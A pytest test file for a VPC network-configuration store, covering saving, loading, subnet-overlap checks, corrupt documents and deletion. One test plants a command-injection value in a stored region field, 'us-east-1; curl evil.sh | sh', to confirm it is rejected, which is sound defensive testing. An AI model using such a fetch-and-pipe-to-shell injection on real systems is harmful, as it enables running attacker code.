"""Tests for the saved network configuration store."""

import json

import pytest

from vpc_api.config_store import ConfigStore
from vpc_api.models import NetworkConfigModel
from vpc_infra.errors import InvalidConfig, OverlappingSubnets


@pytest.fixture
def store(tmp_path) -> ConfigStore:
    return ConfigStore(str(tmp_path))


def _model(**overrides) -> NetworkConfigModel:
    data = {
        "project_name": "demo",
        "subnet_configuration": {"public": ["10.0.0.0/24"], "private": ["10.0.1.0/24"]},
        **overrides,
    }
    return NetworkConfigModel(**data)


class TestSave:
    """Tests for ConfigStore.save."""

    def test_document_holds_normalized_config(self, store) -> None:
        saved = store.save(
            "demo",
            "dev",
            _model(subnet_configuration={"public": [" 10.0.0.0/24 "], "private": []}),
        )

        assert saved.subnet_configuration.public == ["10.0.0.0/24"]

        document = json.loads(store.path_for("demo", "dev").read_text())
        assert document["stack_name"] == "demo-dev"
        assert document["config"]["subnet_configuration"] == {"public": ["10.0.0.0/24"], "private": []}
        assert document["config"]["availability_zones"] == []

    def test_invalid_config_is_not_written(self, store) -> None:
        with pytest.raises(OverlappingSubnets):
            store.save(
                "demo",
                "dev",
                _model(subnet_configuration={"public": ["10.0.0.0/24"], "private": ["10.0.0.0/25"]}),
            )
        assert not store.path_for("demo", "dev").exists()
        assert store.get("demo", "dev") is None


class TestGet:
    """Tests for ConfigStore.get on documents changed after saving."""

    def _edit(self, store, **changes) -> None:
        path = store.path_for("demo", "dev")
        document = json.loads(path.read_text())
        document["config"].update(changes)
        path.write_text(json.dumps(document))

    def test_round_trip(self, store) -> None:
        store.save("demo", "dev", _model(ci_build_suffix="-042"))
        config = store.get("demo", "dev")

        assert config.ci_build_suffix == "-042"
        assert config.subnet_configuration.private == ["10.0.1.0/24"]

    def test_edited_overlap_is_rejected(self, store) -> None:
        store.save("demo", "dev", _model())
        self._edit(store, subnet_configuration={"public": ["10.0.0.0/24"], "private": ["10.0.0.128/25"]})

        with pytest.raises(OverlappingSubnets):
            store.get("demo", "dev")

    def test_edited_region_is_rejected(self, store) -> None:
        store.save("demo", "dev", _model())
        self._edit(store, aws_region="us-east-1; curl evil.sh | sh")

        with pytest.raises(InvalidConfig) as exc_info:
            store.get("demo", "dev")
        assert exc_info.value.rule == "stored-config"

    def test_corrupt_document(self, store) -> None:
        store.path_for("demo", "dev").write_text("{not json")

        with pytest.raises(InvalidConfig) as exc_info:
            store.get("demo", "dev")
        assert exc_info.value.rule == "stored-config"


def test_delete(store) -> None:
    store.save("demo", "dev", _model())

    assert store.delete("demo", "dev") is True
    assert store.delete("demo", "dev") is False
